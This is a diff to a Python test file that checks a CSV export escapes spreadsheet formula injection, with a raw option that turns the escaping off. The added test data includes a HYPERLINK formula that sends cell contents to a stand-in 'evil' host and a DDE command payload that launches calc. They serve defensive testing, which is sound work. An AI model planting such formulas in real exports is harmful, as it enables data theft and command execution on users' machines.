@@ -2,11 +2,12 @@
 
 import csv
 import json
+import re
 from pathlib import Path
 
 import polars as pl
 import pytest
-from finished_run import LONG, NASTY, damage, hir
+from finished_run import LONG, NASTY, commit, damage, drawn, hir
 
 from hir_core.config import FilePrompts
 from hir_core.errors import ConfigError, VersionCorrupt, VersionNotFound
@@ -14,6 +15,7 @@ from hir_core.inspect.export import FORMS, export
 from hir_core.inspect.rows import head
 from hir_core.prompts.load import load_prompts
 from hir_core.store.store import Store
+from hir_core.store.version import VersionRef
 
 TABLES = ["prompts@0", "samples@1", "rewards@2", "triples@1", "evaluations@1"]
 
@@ -82,6 +84,44 @@ def test_a_folder_is_what_datasets_loads(store, tmp_path, monkeypatch):
         rows = [row for split in loaded.values() for row in split]
         assert list(loaded) == (["train", "test"] if text == "prompts@0" else ["train"])
         assert rows == rows_of(store, text)
+
+
+# --- what a spreadsheet would run ------------------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil/?"&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=", "-",
+    "＝1+1", "＋1", "－1", "＠a", "=cmd|' /C calc'!A0", "+49 30 1234", "-5 apples; =1+1",
+]  # fmt: skip
+HARMLESS = ["", "a=1", " =1", "'=1", "-5", "+5", "-.5", "+1.5e-3", "12", "1-2", "[1]", "a;=1", 'say "=1"', "a\n=1"]
+
+
+def exported(tmp_path: Path, texts: list[str], **how: bool) -> list[str]:
+    """The texts that a CSV reader finds where a model wrote these texts."""
+    store, model = Store(tmp_path / "odd"), VersionRef("models", "0000-00000000", tmp_path)
+    row = drawn(1, model)[0]
+    rows = [row | {"sample_id": f"{number:03}", "completion": text} for number, text in enumerate(texts)]
+    export(store, commit(store, "samples", 1, [], rows), "csv", tmp_path / "odd.csv", **how)
+    with (tmp_path / "odd.csv").open(newline="") as file:
+        found = list(csv.DictReader(file))
+    assert [(row["k"], row["seed"], row["logprobs"]) for row in found] == [("0", "0", "[-0.5]")] * len(texts)
+    return [row["completion"] for row in found]
+
+
+def test_no_text_in_csv_begins_as_a_formula_and_all_others_are_as_they_were(tmp_path):
+    texts = exported(tmp_path, FORMULAS + HARMLESS)
+    assert texts == ["'" + text for text in FORMULAS] + HARMLESS
+    assert not any(text[:1] in "=+-@\t\r\n" for text in texts if text and not re.fullmatch(r"[+-]?[\d.e-]+", text))
+
+
+def test_raw_csv_has_every_text_as_it_is(tmp_path):
+    assert exported(tmp_path, FORMULAS + HARMLESS, is_raw=True) == FORMULAS + HARMLESS
+
+
+def test_the_option_raw_is_for_csv(store):
+    hir("export", "samples@1", "raw.csv", "--to", "csv", "--raw")
+    assert "--raw is for csv only" in hir("export", "samples@1", "raw.jsonl", "--to", "jsonl", "--raw", code=2)
+    assert not Path("raw.jsonl").exists()
+    assert "gets a ' in front" in " ".join(hir("export", "--help").replace("│", " ").split())
 
 
 # --- what is refused -------------------------------------------------------------------------------------------------
